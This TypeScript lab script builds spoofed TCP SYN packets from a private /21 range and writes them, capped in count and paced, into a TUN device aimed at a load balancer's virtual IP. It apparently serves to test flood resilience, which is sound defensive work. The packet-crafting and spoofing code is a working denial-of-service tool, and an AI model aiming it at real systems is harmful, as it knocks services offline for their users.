// The lab's SYN flood: COUNT TCP SYNs to VIP:PORT from spoofed sources (10.99.200.0/21, inside the
// lab only), written into a TUN device of the client namespace that the kernel forwards to the
// director. Bounded in count and paced to RATE per second. Prints one JSON line when done.
// usage: node flood.js VIP PORT COUNT RATE TUNNAME

import { readFileSync } from 'node:fs';
import { TunDevice } from '../io/tun.js';
import { internetChecksum } from '../wire/checksum.js';

const [vip, portArg, countArg, rateArg, tunName] = process.argv.slice(2);
if (!vip || !tunName) {
  process.stderr.write('usage: flood VIP PORT COUNT RATE TUNNAME\n');
  process.exit(2);
}
const port = Number(portArg);
const count = Math.min(Number(countArg), 1_000_000);
const rate = Math.max(1000, Number(rateArg));
const dst = vip.split('.').map(Number);
const tun = TunDevice.open(tunName);
process.stdout.write(`flood ready on ${tun.name}\n`);

const BATCH = 32;
const PKT = 40;
const buf = new Uint8Array(BATCH * PKT);
const offsets = new Uint32Array(BATCH * 2);
const pseudo = new Uint8Array(12 + 20);

function craft(i: number, o: number): void {
  // Source 10.99.200.0 + i over a /21, port from i: every SYN a new flow.
  const host = 1 + (i % 2046);
  const src = [10, 99, 200 + (host >>> 8), host & 255];
  const sport = 1024 + ((i * 7919) % 60000);
  const b = buf;
  b.fill(0, o, o + PKT);
  b[o] = 0x45;
  b[o + 3] = PKT;
  b[o + 4] = (i >>> 8) & 255;
  b[o + 5] = i & 255;
  b[o + 6] = 0x40;
  b[o + 8] = 64;
  b[o + 9] = 6;
  for (let k = 0; k < 4; k++) {
    b[o + 12 + k] = src[k]!;
    b[o + 16 + k] = dst[k]!;
  }
  const c = internetChecksum(b, o, 20);
  b[o + 10] = c >>> 8;
  b[o + 11] = c & 255;
  const t = o + 20;
  b[t] = sport >>> 8;
  b[t + 1] = sport & 255;
  b[t + 2] = port >>> 8;
  b[t + 3] = port & 255;
  const seq = Math.imul(i, 2654435761) >>> 0;
  b[t + 4] = seq >>> 24;
  b[t + 5] = (seq >>> 16) & 255;
  b[t + 6] = (seq >>> 8) & 255;
  b[t + 7] = seq & 255;
  b[t + 12] = 0x50;
  b[t + 13] = 0x02;
  b[t + 14] = 0xff;
  b[t + 15] = 0xff;
  pseudo.fill(0);
  pseudo.set(b.subarray(o + 12, o + 20), 0);
  pseudo[9] = 6;
  pseudo[11] = 20;
  pseudo.set(b.subarray(t, t + 20), 12);
  const tc = internetChecksum(pseudo, 0, 32);
  b[t + 16] = tc >>> 8;
  b[t + 17] = tc & 255;
}

let t0 = 0;
let sent = 0;
let refused = 0;
async function main(): Promise<void> {
  // Writes fail until the lab has brought the device up: wait for IFF_UP (bounded).
  for (let k = 0; k < 250; k++) {
    const flags = Number(readFileSync(`/sys/class/net/${tun.name}/flags`, 'utf8'));
    if ((flags & 1) !== 0) break;
    await new Promise((r) => setTimeout(r, 20));
  }
  t0 = performance.now();
  for (let i = 0; i < count; ) {
    const n = Math.min(BATCH, count - i);
    for (let k = 0; k < n; k++) {
      craft(i + k, k * PKT);
      offsets[2 * k] = k * PKT;
      offsets[2 * k + 1] = PKT;
    }
    const w = tun.writeBatch(buf, offsets, n);
    sent += w;
    refused += n - w;
    i += n;
    // Pace: never ahead of RATE per second.
    const ahead = (i / rate) * 1000 - (performance.now() - t0);
    if (ahead > 0) await new Promise((r) => setTimeout(r, ahead));
  }
  const ms = Math.round(performance.now() - t0);
  process.stdout.write(`${JSON.stringify({ sent, refused, ms })}\n`);
  tun.close();
}
void main();
